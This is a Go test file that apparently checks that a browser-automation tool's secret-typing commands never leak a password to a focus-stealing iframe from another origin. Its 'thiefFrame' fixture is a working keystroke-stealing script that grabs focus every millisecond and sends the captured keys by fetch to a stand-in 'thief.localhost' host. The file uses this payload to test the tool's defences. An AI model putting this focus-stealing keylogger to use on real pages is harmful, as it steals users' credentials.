package guard_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"pwpipe/internal/pipetest"
)

// thieves serves pages of two origins: one of them frames the other, which takes the keyboard focus
// each millisecond and tells what it gets.
type thieves struct {
	bank, evil string // their addresses

	mu  sync.Mutex
	got []string // what the other origin was told to have typed
}

const thiefFrame = `<input id="got" oninput="tell(this.value)"><script>
	const tell = (v) => fetch('/got?v=' + encodeURIComponent(v), { mode: 'no-cors' });
	addEventListener('keydown', (e) => tell(e.key));
	setInterval(() => got.focus(), 1);
</script>`

const thiefPage = `<!doctype html><title>bank</title><input id="f"><div id="e" contenteditable></div><textarea id="a"></textarea>
	<iframe srcdoc="<input id=inner>"></iframe><iframe id="thief" src="%s/frame"></iframe>`

func startThieves(t *testing.T) *thieves {
	t.Helper()
	h := &thieves{}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/got":
			h.mu.Lock()
			h.got = append(h.got, r.FormValue("v"))
			h.mu.Unlock()
		case "/frame":
			fmt.Fprint(w, thiefFrame)
		case "/":
			fmt.Fprintf(w, thiefPage, h.evil)
		}
	}))
	t.Cleanup(site.Close)
	u, _ := url.Parse(site.URL)
	h.bank, h.evil = site.URL, "http://thief.localhost:"+u.Port()
	return h
}

// stolen returns what the frame got of a text, after it has told everything.
func (h *thieves) stolen(p *pipetest.Pipe) string {
	p.Call("eval", []any{"fetch('/got?v=').then(() => 1)"})
	h.mu.Lock()
	defer h.mu.Unlock()
	return strings.Join(h.got, "")
}

// A frame of another origin takes the focus all the time. A secret is typed into the document of
// the field that was named, by every tool that types, or not at all.
func TestFocusThiefGetsNoSecret(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestSecretsNeverLeave is quick")
	t.Parallel()
	h := startThieves(t)
	p := pipetest.SharedOn(t, h.bank+"/", "--secrets", secretsFile(t))
	script := func(code string) func() { return func() { pipetest.Execute(p, code) } }
	call := func(tool string, params ...any) func() { return func() { p.Call(tool, params) } }
	const clear = "for (const e of [f, a, frames[0].inner]) e.value = ''; e.textContent = ''"
	const all = "[f.value, a.value, e.textContent, frames[0].inner.value].join('')"
	for _, c := range pipetest.Some([]struct {
		name string
		act  func()
	}{
		{"fill", call("fill", "#f", "{{PASSWORD}}")},
		{"fill an editor", call("fill", "#e", "{{PASSWORD}}")},
		{"fill in a frame", call("fill", "iframe >> nth=0 >> internal:control=enter-frame >> #inner", "{{PASSWORD}}")},
		{"type", call("type", "#f", "{{PASSWORD}}")},
		{"type an area", call("type", "#a", "{{PASSWORD}}")},
		{"type an editor", call("type", "#e", "{{PASSWORD}}")},
		{"paste", call("paste", "#f", "{{PASSWORD}}")},
		{"browser_type", func() { p.Call("browser_type", map[string]any{"target": "#f", "text": "{{PASSWORD}}"}) }},
		{"script", script("await page.fill('#f', '{{PASSWORD}}')")},
		{"locator", script("await page.locator('#e').fill('{{PASSWORD}}')")},
	}, 3) {
		p.Call("eval", []any{clear + "; 1"})
		c.act()
		if got := p.Text("eval", []any{all}); got != "<secret:PASSWORD>" {
			t.Errorf("%s: the page has %q", c.name, got)
		}
		if got := h.stolen(p); got != "" {
			t.Errorf("%s: the frame of another origin got %q", c.name, got)
		}
		h.got = nil
	}
	// Without a selector the secret goes to the focus in the page's own document, or nowhere.
	p.Call("focus", []any{"#f"})
	p.Try("type", []any{"", "{{PASSWORD}}"})
	if got := h.stolen(p); got != "" {
		t.Errorf("type without a selector: the frame of another origin got %q", got)
	}
	// Other keys go to what has the focus, as a person's do. If the frame got some, that is an error.
	for name, try := range map[string]func() bool{
		"type":  func() bool { return p.Try("type", []any{"#f", "plain"}).Error == "" },
		"press": func() bool { return p.Try("press", []any{"p", "#f"}).Error == "" },
		"script": func() bool {
			return p.Try("execute", map[string]any{"code": "await page.locator('#f').pressSequentially('plain')"}).Error == ""
		},
	} {
		for range 3 {
			h.got = nil
			if ok, got := try(), h.stolen(p); ok && got != "" {
				t.Errorf("%s: answered ok, and the frame of another origin got %q", name, got)
			}
		}
	}
}
